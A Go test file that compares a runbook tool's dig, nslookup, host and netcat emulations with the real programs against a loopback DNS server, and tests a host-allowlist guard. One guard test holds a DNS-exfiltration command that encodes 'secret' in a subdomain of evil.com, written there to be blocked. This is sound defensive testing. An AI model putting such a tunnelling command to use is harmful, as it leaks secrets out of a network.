package commands_test

import (
	"bytes"
	"fmt"
	"net"
	"os/exec"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/opsbook/opsbook/internal/scripts/commands"
)

// zone is what the test's server of DNS has.
func zone() map[string][]dnsmessage.ResourceBody {
	n := dnsmessage.MustNewName
	return map[string][]dnsmessage.ResourceBody{
		"example.com.": {
			&dnsmessage.AResource{A: [4]byte{93, 184, 216, 34}}, &dnsmessage.AResource{A: [4]byte{93, 184, 216, 35}},
			&dnsmessage.AAAAResource{AAAA: [16]byte{0x26, 6, 0x28, 15: 1}},
			&dnsmessage.MXResource{Pref: 10, MX: n("mail.example.com.")}, &dnsmessage.MXResource{Pref: 20, MX: n("mail2.example.com.")},
			&dnsmessage.TXTResource{TXT: []string{"v=spf1 -all"}}, &dnsmessage.TXTResource{TXT: []string{`a"b;c\`, "d \xc3\xa9"}},
			&dnsmessage.NSResource{NS: n("ns1.example.com.")},
			&dnsmessage.SOAResource{NS: n("ns1.example.com."), MBox: n("admin.example.com."), Serial: 2026010101, Refresh: 7200,
				Retry:  3600,
				Expire: 1209600, MinTTL: 300},
			&dnsmessage.UnknownResource{Type: 257, Data: []byte("\x00\x05issueletsencrypt.org")},
		},
		"www.example.com.":                      {&dnsmessage.CNAMEResource{CNAME: n("example.com.")}},
		"averylongnameofahost.sub.example.com.": {&dnsmessage.AResource{A: [4]byte{1, 2, 3, 4}}},
		"_sip._tcp.example.com.": {
			&dnsmessage.SRVResource{Priority: 10, Weight: 5, Port: 5060, Target: n("sip.example.com.")},
		},
		"34.216.184.93.in-addr.arpa.": {&dnsmessage.PTRResource{PTR: n("example.com.")}},
		"empty.example.com.":          {},
	}
}

// kindOf is the kind of a record.
func kindOf(body dnsmessage.ResourceBody) dnsmessage.Type {
	switch b := body.(type) {
	case *dnsmessage.AResource:
		return dnsmessage.TypeA
	case *dnsmessage.AAAAResource:
		return dnsmessage.TypeAAAA
	case *dnsmessage.CNAMEResource:
		return dnsmessage.TypeCNAME
	case *dnsmessage.MXResource:
		return dnsmessage.TypeMX
	case *dnsmessage.TXTResource:
		return dnsmessage.TypeTXT
	case *dnsmessage.NSResource:
		return dnsmessage.TypeNS
	case *dnsmessage.SOAResource:
		return dnsmessage.TypeSOA
	case *dnsmessage.SRVResource:
		return dnsmessage.TypeSRV
	case *dnsmessage.PTRResource:
		return dnsmessage.TypePTR
	case *dnsmessage.UnknownResource:
		return b.Type
	}
	return 0
}

// serveDNS answers on loopback until the test ends, and returns its port.
func serveDNS(t *testing.T) string {
	t.Helper()
	conn, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	records := zone()
	go func() {
		buffer := make([]byte, 4096)
		for {
			n, from, err := conn.ReadFrom(buffer)
			if err != nil {
				return
			}
			var asked dnsmessage.Message
			if asked.Unpack(buffer[:n]) != nil {
				continue
			}
			if packet, err := answerDNS(records, asked); err == nil {
				_, _ = conn.WriteTo(packet, from) // who is gone asks no more
			}
		}
	}()
	_, port, _ := net.SplitHostPort(conn.LocalAddr().String())
	return port
}

func answerDNS(records map[string][]dnsmessage.ResourceBody, asked dnsmessage.Message) ([]byte, error) {
	question := asked.Questions[0]
	out := dnsmessage.Message{
		Header:    dnsmessage.Header{ID: asked.ID, Response: true, RecursionDesired: asked.RecursionDesired, RecursionAvailable: true},
		Questions: asked.Questions,
	}
	name := question.Name
	switch _, there := records[name.String()]; {
	case name.String() == "servfail.example.com.":
		out.RCode = dnsmessage.RCodeServerFailure
	case !there:
		out.RCode = dnsmessage.RCodeNameError
	}
	for range 2 {
		alias := ""
		for _, body := range records[name.String()] {
			if kind := kindOf(body); kind == question.Type || kind == dnsmessage.TypeCNAME {
				out.Answers = append(out.Answers, dnsmessage.Resource{
					Header: dnsmessage.ResourceHeader{Name: name, Type: kind, Class: dnsmessage.ClassINET, TTL: 300}, Body: body,
				})
			}
			if c, ok := body.(*dnsmessage.CNAMEResource); ok && question.Type != dnsmessage.TypeCNAME {
				alias = c.CNAME.String()
			}
		}
		if alias == "" {
			break
		}
		name = dnsmessage.MustNewName(alias)
	}
	if len(asked.Additionals) > 0 {
		var header dnsmessage.ResourceHeader
		if err := header.SetEDNS0(1232, dnsmessage.RCodeSuccess, false); err != nil {
			return nil, err
		}
		out.Additionals = []dnsmessage.Resource{{Header: header, Body: &dnsmessage.OPTResource{}}}
	}
	return out.Pack()
}

// dnsLines are lines of the three commands; @ stands for the server, and PORT for the options of its port.
var dnsLines = []string{
	"dig @ PORT +short example.com", "dig @ PORT +short example.com MX", "dig @ PORT +short TXT example.com",
	"dig @ PORT +short www.example.com", "dig @ PORT +short nope.example.com", "dig PORT example.com AAAA +short @",
	"dig @ PORT +short -t ns example.com", "dig @ PORT +short example.com. SOA", "dig @ PORT +short -x 93.184.216.34",
	"dig @ PORT +short example.com CAA", "dig @ PORT +short _sip._tcp.example.com SRV", "dig @ PORT +short empty.example.com",
	"dig @ PORT +short servfail.example.com", "dig @ PORT +noall +answer example.com", "dig @ PORT +noall +answer www.example.com A IN",
	"dig @ PORT +noall +answer averylongnameofahost.sub.example.com", "dig @ PORT example.com", "dig @ PORT nope.example.com",
	"dig @ PORT +nocmd +nostats +nocomments example.com", "dig @ PORT +noall +answer +question example.com mx",
	"dig @ PORT +time=1 +tries=1 +noedns +short example.com", "dig @ PORT servfail.example.com", "dig @ PORT +nostats www.example.com txt",
	"nslookup PORT example.com @", "nslookup PORT nope.example.com @", "nslookup PORT -type=mx example.com @",
	"nslookup PORT -query=txt example.com @", "nslookup PORT -type=ns example.com @", "nslookup PORT -type=soa example.com @",
	"nslookup PORT www.example.com @", "nslookup PORT 93.184.216.34 @", "nslookup PORT empty.example.com @",
	"nslookup PORT servfail.example.com @", "nslookup PORT -type=cname www.example.com @", "nslookup PORT -type=AAAA example.com @",
	"nslookup PORT -type=srv _sip._tcp.example.com @", "nslookup PORT -type=caa example.com @", "nslookup PORT 1.2.3.4 @",
	"nslookup PORT -type=mx www.example.com @", "nslookup PORT -type=mx empty.example.com @",
	"host PORT example.com @", "host PORT nope.example.com @", "host PORT -t mx example.com @", "host PORT -t txt example.com @",
	"host PORT -t ns example.com @", "host PORT www.example.com @", "host PORT 93.184.216.34 @", "host PORT empty.example.com @",
	"host PORT servfail.example.com @", "host PORT -t soa example.com @", "host PORT -t AAAA example.com @",
	"host PORT -t srv _sip._tcp.example.com @", "host PORT -t cname www.example.com @", "host PORT -t caa example.com @",
	"host PORT 1.2.3.4 @", "host PORT -t mx empty.example.com @", "host PORT -t aaaa www.example.com @",
}

// varying is what differs from one time to the next, and where Debian's build differs from another.
var varying = regexp.MustCompile(`(id: |Query time: |WHEN: |DiG 9\.18)[^\n<,]*`)

// TestDNSAsBIND asks a server on loopback, and prints as the machine's dig, nslookup and host do.
func TestDNSAsBIND(t *testing.T) {
	t.Parallel()
	port := serveDNS(t)
	guard := commands.Guard{Named: func(host string) bool { return host != "127.0.0.1" }, Allowed: []string{"127.0.0.1:" + port}}
	for _, line := range dnsLines {
		name, _, _ := strings.Cut(line, " ")
		option := map[string]string{"dig": "-p " + port, "host": "-p " + port, "nslookup": "-port=" + port}[name]
		server := "127.0.0.1"
		if name == "dig" {
			server = "@127.0.0.1"
		}
		line = strings.Replace(strings.Replace(line, "PORT", option, 1), "@", server, 1)
		got, said, status := native(t, guard, nil, "", line)
		path, err := exec.LookPath(name)
		if err != nil {
			continue
		}
		version, _ := exec.CommandContext(t.Context(), path, "-V").CombinedOutput() // its status says nothing
		if name == "dig" && !bytes.Contains(version, []byte("9.18")) {
			continue // of another version
		}
		theirs := exec.CommandContext(t.Context(), path, strings.Fields(line)[1:]...)
		theirs.Env = []string{"LC_ALL=C", "TZ=UTC"}
		want, err := theirs.Output()
		if theirs.ProcessState == nil {
			t.Fatal(err)
		}
		same := func(text string) string { return varying.ReplaceAllString(text, "$1…") }
		if same(got) != same(string(want)) || status != theirs.ProcessState.ExitCode() {
			t.Errorf("%s printed %d\n%s%s, BIND's %d\n%s", line, status, got, said, theirs.ProcessState.ExitCode(), want)
		}
	}
}

// TestDNSAnswersWithoutBIND has what scripts read, for a machine without BIND's tools.
func TestDNSAnswersWithoutBIND(t *testing.T) {
	t.Parallel()
	port := serveDNS(t)
	named := func(host string) bool { return strings.HasSuffix(host, "example.com") }
	guard := commands.Guard{Named: named, Allowed: []string{"127.0.0.1:" + port}}
	for line, want := range map[string]string{
		"dig +short www.example.com":       "example.com.\n93.184.216.34\n93.184.216.35\n",
		"dig +short example.com TXT":       "\"v=spf1 -all\"\n\"a\\\"b;c\\\\\" \"d \\195\\169\"\n",
		"dig +noall +answer example.com A": "example.com.\t\t300\tIN\tA\t93.184.216.34\nexample.com.\t\t300\tIN\tA\t93.184.216.35\n",
		"dig +short nope.example.com":      "",
	} {
		got, said, status := native(t, guard, nil, "", line+" @127.0.0.1 -p "+port)
		if got != want || status != 0 {
			t.Errorf("%s: %d %q %s, want %q", line, status, got, said, want)
		}
	}
	for line, want := range map[string]string{
		fmt.Sprintf("dig +short c2VjcmV0.evil.com @127.0.0.1 -p %s", port): "no runbook names c2VjcmV0.evil.com",
		"dig +short example.com @127.0.0.1 -p 5353":                        "no runbook names the host 127.0.0.1",
		"host example.com 10.0.0.2":                                        "no runbook names the host 10.0.0.2",
		fmt.Sprintf("nslookup -port=%s other.com 127.0.0.1", port):         "no runbook names other.com",
	} {
		if got, said, status := native(t, guard, nil, "", line); got != "" || status == 0 || !strings.Contains(said, want) {
			t.Errorf("%s: %d %q %q", line, status, got, said)
		}
	}
}

// TestPortsAsNetcat asks for ports of loopback as the machine's netcat does.
func TestPortsAsNetcat(t *testing.T) {
	t.Parallel()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer listener.Close()
	_, port, _ := net.SplitHostPort(listener.Addr().String())
	guard := commands.Guard{Allowed: []string{"127.0.0.1:" + port, "127.0.0.1:1", "127.0.0.1:2", "127.0.0.1:2"}}
	path, _ := exec.LookPath("nc")
	version := []byte{}
	if path != "" {
		version, _ = exec.CommandContext(t.Context(), path, "-h").CombinedOutput() // its status says nothing
	}
	for line, want := range map[string]struct {
		said   string
		status int
	}{
		"nc -z 127.0.0.1 " + port:   {"", 0},
		"nc -zv 127.0.0.1 " + port:  {"Connection to 127.0.0.1 " + port + " port [tcp/*] succeeded!\n", 0},
		"nc -z -v -w 2 127.0.0.1 1": {"nc: connect to 127.0.0.1 port 1 (tcp) failed: Connection refused\n", 1},
		"nc -zvn 127.0.0.1 " + port: {"Connection to 127.0.0.1 " + port + " port [tcp/*] succeeded!\n", 0},
		"nc -vz -w1 127.0.0.1 1-2": {
			"nc: connect to 127.0.0.1 port 1 (tcp) failed: Connection refused\n" +
				"nc: connect to 127.0.0.1 port 2 (tcp) failed: Connection refused\n", 1,
		},
		"nc -z 127.0.0.1 99999":         {"nc: port number too large: 99999\n", 1},
		"nc -zv 127.0.0.1 nosuchthing!": {"nc: port number invalid: nosuchthing!\n", 1},
	} {
		out, said, status := native(t, guard, nil, "", line)
		if out != "" || said != want.said || status != want.status {
			t.Errorf("%s: %d %q %q, want %d %q", line, status, out, said, want.status, want.said)
		}
		if !bytes.Contains(version, []byte("OpenBSD")) {
			continue
		}
		theirs := exec.CommandContext(t.Context(), path, strings.Fields(line)[1:]...)
		var errs bytes.Buffer
		theirs.Stderr = &errs
		_ = theirs.Run()
		if theirs.ProcessState.ExitCode() != status || errs.String() != said {
			t.Errorf("%s: %d %q, netcat's %d %q", line, status, said, theirs.ProcessState.ExitCode(), errs.String())
		}
	}
}
